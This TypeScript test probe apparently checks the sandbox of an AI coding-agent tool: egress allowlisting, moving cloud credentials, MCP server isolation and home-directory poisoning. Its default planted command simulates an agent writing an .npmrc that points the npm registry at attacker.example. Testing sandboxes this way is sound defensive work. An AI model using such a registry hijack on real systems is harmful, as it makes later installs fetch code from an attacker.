/**
 * Runs one command through crew's command runner from a process that, like crew in
 * a job, received its secrets in its initial environment (where /proc/<pid>/environ
 * shows them). Usage: probe.ts <sandboxed|unsandboxed|allowlist> <workspace> <temp> <command>
 *
 * With CREW_PROBE_USERNS=1 the sandbox is local mode's without root (user namespaces), not the tool user's.
 *
 * With CREW_PROBE_CLOUD=1 it first does what crew's entry does before any step: moves the cloud
 * credentials files out of the workspace (src/sandbox/cloud-credentials.ts); after the command's
 * output it prints `::moved <from> <to>` lines and where GOOGLE_APPLICATION_CREDENTIALS points.
 *
 * Mode `allowlist` starts crew's egress proxy first (allowing the hosts in CREW_PROBE_ALLOW, resolved
 * through CREW_EGRESS_RESOLVER), prepares the sandbox with its route and runs the command with the
 * allowlist, as setup on a model-written tree runs; then it prints `::refused <json>`.
 *
 * Mode `mcp` (#36) starts the test MCP servers through the sandbox instead (`<command>` is the path of
 * tests/support/mcp/servers.mjs): facts, whose probe tool's answer it prints, and one that hangs, which
 * must be stopped; after closing both it prints `::left <n>`, how many of their processes still run.
 * They start, as on a checkout that holds a model's files, in a copy of the workspace's HEAD (stdioServerDir), after a
 * command of the agent's has planted files in the tool user's home (`::planted`); `::homes` counts the servers' own homes.
 *
 * Mode `base` (#46) runs `<command>` as the critic runs the base's tests: in a home made after a command planted an
 * `.npmrc` in the shared one, in a checkout of the workspace's HEAD inside it (`::head`); `::gone` after it is removed.
 * CREW_PROBE_PLANT replaces that command, CREW_PROBE_FACTS (JSON) the facts server's arguments, and CREW_PROBE_TRUSTED=1
 * starts the servers in the checkout itself, as on a checkout that is exactly the reviewed commit.
 */
import { join } from 'node:path';
import { secureCloudCredentials } from '../../../src/sandbox/cloud-credentials';
import { prepareSandbox, prepareUserNamespace, UnsandboxedRunner, type CommandRunner } from '../../../src/sandbox/command-runner';
import { startEgressProxy } from '../../../src/sandbox/egress/proxy';

const [mode, workspace, temp, command] = process.argv.slice(2) as [string, string, string, string];
const secured = process.env.CREW_PROBE_CLOUD === '1' ? secureCloudCredentials(process.env, workspace, join(temp, 'crew-credentials')) : undefined;
const proxy =
  mode === 'allowlist'
    ? await startEgressProxy({
        allow: (process.env.CREW_PROBE_ALLOW ?? '').split(',').filter(Boolean),
        ...(process.env.CREW_EGRESS_RESOLVER ? { resolver: process.env.CREW_EGRESS_RESOLVER } : {}),
      })
    : undefined;
const runner =
  mode === 'unsandboxed'
    ? { runner: new UnsandboxedRunner(temp) }
    : await (process.env.CREW_PROBE_USERNS === '1' ? prepareUserNamespace : prepareSandbox)(workspace, temp, proxy ? { socket: proxy.socket } : undefined);
if (!('runner' in runner)) {
  console.error(`no sandbox: ${runner.reason}`);
  process.exit(2);
}
if (proxy && !(runner.runner as CommandRunner).egress) {
  console.error(`no route to the egress proxy: ${'egressProblem' in runner ? runner.egressProblem : 'unknown'}`);
  process.exit(3);
}
if (mode === 'mcp') {
  const { McpServersSchema } = await import('../../../src/domain/mcp');
  const { startMcpServers } = await import('../../../src/mcp/servers');
  const servers = McpServersSchema.parse({
    facts: {
      command: process.execPath,
      args: process.env.CREW_PROBE_FACTS ? (JSON.parse(process.env.CREW_PROBE_FACTS) as string[]) : [command, 'facts'],
      env: ['FACTS_TOKEN'],
      tools: ['probe'],
    },
    slow: { command: process.execPath, args: [command, 'hang'], tools: ['*'], start_timeout_seconds: 2 },
  });
  const quiet = { info: () => undefined, warn: () => undefined, checkpoint: () => undefined };
  const { gitRepo } = await import('../../../src/adapters/git/git-repo');
  const { stdioServerDir } = await import('../../../src/mcp/server-dir');
  const { repo } = gitRepo(workspace, 'http://127.0.0.1:9/unused.git', 'unused');
  const reviewed = await stdioServerDir({
    trusted: process.env.CREW_PROBE_TRUSTED === '1',
    repo,
    remote: { fetchCommit: async () => undefined },
    reviewedSha: await repo.head(),
    tempDir: temp,
    log: quiet,
  });
  // The agent's command runs first, as an earlier attempt or a chained task's would, and plants files in its home.
  const plant = process.env.CREW_PROBE_PLANT ?? 'echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"';
  const planted = await runner.runner.run(plant, {
    cwd: workspace,
    timeoutMs: 60_000,
    maxOutputBytes: 10_000,
  });
  const session = await startMcpServers({
    servers: Object.entries(servers),
    runner: runner.runner,
    cwd: reviewed.dir,
    env: process.env,
    network: 'none',
    allowedHost: () => false,
    log: quiet,
  });
  process.stdout.write(`${await session.tools.find((t) => t.spec.name === 'mcp__facts__probe')!.run({})}\n`);
  for (const n of session.notes) process.stdout.write(`::note ${n}\n`);
  process.stdout.write(`::planted ${planted.exitCode} ${planted.output.trim()}\n`);
  const { readdirSync } = await import('node:fs');
  const { existsSync } = await import('node:fs');
  // The tool user's sandbox keeps the servers' homes in its private folder, local mode's beside the commands' home.
  const homesDir = [join(temp, 'crew-sandbox', 'homes'), join(temp, 'crew-program-homes')].find((d) => existsSync(d))!;
  const homes = () => readdirSync(homesDir);
  process.stdout.write(`::homes ${homes().length}\n`);
  await session.close();
  process.stdout.write(`::homes-after ${homes().length}\n`);
  await reviewed.dispose();
  // Stopping through sudo takes a moment (`sudo kill`): look for up to 10 s. This probe's own arguments name the file too.
  const { execFileSync } = await import('node:child_process');
  let left = '';
  for (let i = 0; i < 50; i++) {
    left = execFileSync('sh', ['-c', `ps -eo args | grep '[s]ervers.mjs' | grep -vc 'probe\\.ts' || true`]).toString().trim();
    if (left === '0') break;
    await new Promise((r) => setTimeout(r, 200));
  }
  process.stdout.write(`::left ${left}\n`);
  process.exit(0);
}
if (mode === 'base') {
  // The base's own run (#46): after a command planted an .npmrc in the shared home, `<command>` runs in a home made
  // now with a checkout of the workspace's HEAD inside, as the critic runs the base's tests; `::gone` says it was removed.
  const { gitRepo } = await import('../../../src/adapters/git/git-repo');
  const { homeEnv } = await import('../../../src/sandbox/command-runner');
  const { existsSync } = await import('node:fs');
  const { repo } = gitRepo(workspace, 'http://127.0.0.1:9/unused.git', 'unused');
  const planted = await runner.runner.run('echo node-options=--no-warnings > "$HOME/.npmrc"', { cwd: workspace, timeoutMs: 20_000, maxOutputBytes: 10_000 });
  process.stdout.write(`::planted ${planted.exitCode}\n`);
  const head = await repo.head();
  const home = await runner.runner.programHome!((d) => repo.checkoutCopy(head, join(d, 'base')));
  const r = await runner.runner.run(command, { cwd: join(home.dir, 'base'), timeoutMs: 20_000, maxOutputBytes: 500_000, env: homeEnv(home) });
  process.stdout.write(r.output);
  process.stdout.write(`::head ${head}\n`);
  await home.dispose();
  process.stdout.write(`::gone ${!existsSync(home.dir)}\n`);
  process.exit(0);
}
const r = await runner.runner.run(command, { cwd: workspace, timeoutMs: 20_000, maxOutputBytes: 500_000, ...(proxy ? { network: 'allowlist' as const } : {}) });
process.stdout.write(r.output);
if (proxy) {
  process.stdout.write(`\n::refused ${JSON.stringify(proxy.refused())}\n`);
  await proxy.close();
}
if (secured) {
  for (const m of secured.moved) process.stdout.write(`\n::moved ${m.from} ${m.to}\n`);
  process.stdout.write(`::GOOGLE_APPLICATION_CREDENTIALS ${process.env.GOOGLE_APPLICATION_CREDENTIALS}\n`);
}
